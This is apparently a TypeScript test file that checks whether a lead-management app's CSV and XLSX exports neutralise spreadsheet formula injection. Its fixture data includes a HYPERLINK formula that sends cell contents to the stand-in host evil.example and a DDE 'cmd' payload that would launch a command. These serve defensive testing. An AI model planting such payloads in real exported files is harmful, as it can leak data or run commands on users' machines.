// Text that a spreadsheet would run (=HYPERLINK, +, -, @ at the start) in exported files, as a spreadsheet user
// expects it: a CSV cell gets the apostrophe Excel's own escaping uses, while an XLSX cell is a text cell that never
// runs, holding exactly what was typed, so an international phone number reads "+86 …" with no stray apostrophe.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportsApi } from '../../src/http/api/exports.ts';
import { reportsApi } from '../../src/http/api/reports.ts';
import { insertPerson } from '../app/orders/people.ts';
import { type ApiWorld, openApiWorld } from './api-world.ts';

let world: ApiWorld;

const hostile = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+86 139 1234 0842'],
  ['+SUM(1,2)', '+86 139 1234 0843'],
  ["-2+3+cmd|'/C calc'!A0", '-'],
  ['@SUM(1+1)', '+1 (415) 555-0100'],
] as const;

beforeAll(async () => {
  world = await openApiWorld([exportsApi, reportsApi]);
  for (const [name, phone] of hostile)
    await world.database.pool.query(
      `insert into leads (name, company, phone, source, status, owner_id, created_at)
       values ($1, $1, $2, 'web', 'accepted', $3, timestamptz '2026-10-05 10:00+08')`,
      [name, phone, world.people.rep!.id],
    );
  await insertPerson(world.database, world.people, 'evil', {
    name: '=HYPERLINK("http://evil.example")',
    roles: ['rep'],
    managerId: world.people.boss!.id,
  });
});
afterAll(async () => world?.close());

const get = (url: string) => world.app.inject({ method: 'GET', url, headers: world.auth });

async function sheetOf(payload: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(payload as unknown as ArrayBuffer);
  const zip = await JSZip.loadAsync(payload);
  const xml = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
  return { sheet: wb.worksheets[0]!, xml: xml ?? '' };
}

describe('formula-looking text in exported files', () => {
  it('a CSV export escapes each with an apostrophe', async () => {
    const rows = parse((await get('/api/exports/leads')).body, { bom: true }) as string[][];
    for (const [name, phone] of hostile) {
      const row = rows.find((r) => r[2] === `'${name}`);
      expect(row?.[3]).toBe(`'${name}`);
      expect(row?.[4]).toBe(`'${phone}`);
    }
  });

  it('an XLSX export holds each as a text cell, exactly as typed, and no formula', async () => {
    const { sheet, xml } = await sheetOf((await get('/api/exports/leads?format=xlsx')).rawPayload);
    const values: unknown[][] = [];
    sheet.eachRow((row) => {
      values.push([row.getCell(3).value, row.getCell(4).value, row.getCell(5).value]);
    });
    for (const [name, phone] of hostile) expect(values).toContainEqual([name, name, phone]);
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it('a report workbook holds a rep named like a formula as text, and the CSV escapes it', async () => {
    const { sheet, xml } = await sheetOf((await get('/api/reports/kpi?format=xlsx')).rawPayload);
    const names: unknown[] = [];
    sheet.eachRow((row) => {
      names.push(row.getCell(2).value);
    });
    expect(names).toContain('=HYPERLINK("http://evil.example")');
    expect(xml).not.toMatch(/<f[ >]/);
    const csv = parse((await get('/api/reports/kpi?format=csv')).body, { bom: true }) as string[][];
    expect(csv.map((r) => r[1])).toContain('\'=HYPERLINK("http://evil.example")');
  });
});
